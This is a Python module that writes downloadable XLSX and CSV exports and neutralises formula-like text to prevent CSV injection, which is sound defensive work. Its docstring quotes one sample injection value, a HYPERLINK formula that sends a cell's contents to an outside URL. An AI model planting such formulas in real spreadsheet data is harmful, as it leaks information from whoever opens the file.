"""Spreadsheets written for download: a titled sheet in openpyxl's write-only mode, and CSV.

Neither ever holds a live formula. Names, positions, answers and point names come from
people and uploaded files, so a cell such as `=HYPERLINK("http://…?x="&A1,"Bấm")` would
otherwise run when an official opens the export (OWASP's CSV injection). Every writer of the
project goes through `csv_writer` or `workbook`/`xlsx_row`, where text that starts like a
formula is written as text: behind a single quote in CSV, as a text cell in XLSX.
"""

import csv
import io
from collections.abc import Iterable
from typing import Any, TextIO, TypeGuard

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

# OWASP's list: a formula, or a tab or carriage return that a spreadsheet trims before one.
FORMULA_STARTS = frozenset("=+-@\t\r")


def starts_like_formula(value: object) -> TypeGuard[str]:
    # The first character only: the reports write hundreds of thousands of cells. Numbers
    # (a negative count too) are never text, so they stay numbers.
    return isinstance(value, str) and value[:1] in FORMULA_STARTS


def csv_field(value: object) -> object:
    """The value for a CSV field: formula-like text behind a single quote, the rest as is."""
    return "'" + value if starts_like_formula(value) else value


def safe_row(row: Iterable[object]) -> list[object]:
    return [csv_field(value) for value in row]


class SafeCsvWriter:
    """csv.writer that writes every row through `safe_row`; it quotes a field holding the
    separator, a quote or a line break, so no text can start a new field of its own."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        self._writer.writerows(safe_row(row) for row in rows)


def csv_writer(stream: TextIO) -> SafeCsvWriter:
    return SafeCsvWriter(stream)


def text_cell(sheet: Any, value: object, font: Font | None = None) -> WriteOnlyCell:
    """A cell for a write-only sheet that is never a formula, optionally in `font`."""
    cell = WriteOnlyCell(sheet, value=value)
    if starts_like_formula(value):
        # openpyxl reads a string starting with "=" as a formula unless told it is text;
        # the quote prefix keeps it text when someone edits the cell in Excel.
        cell.data_type = "s"
        cell.quotePrefix = True
    if font is not None:
        cell.font = font
    return cell


def xlsx_row(sheet: Any, row: Iterable[object]) -> list[object]:
    """A row to append to a write-only sheet: formula-like text as text cells."""
    return [text_cell(sheet, value) if starts_like_formula(value) else value for value in row]


def workbook(
    sheet_name: str,
    title: str,
    header: list[str],
    body: Iterable[list[object]],
    *,
    widths: dict[str, int],
) -> bytes:
    """A titled sheet written row by row (openpyxl's write-only mode), so a national
    roster or register fits in memory."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_name[:31])
    for column, width in widths.items():
        sheet.column_dimensions[column].width = width
    sheet.append([text_cell(sheet, title, Font(bold=True, size=13))])
    sheet.append([text_cell(sheet, text, Font(bold=True)) for text in header])
    for row in body:
        sheet.append(xlsx_row(sheet, row))
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()
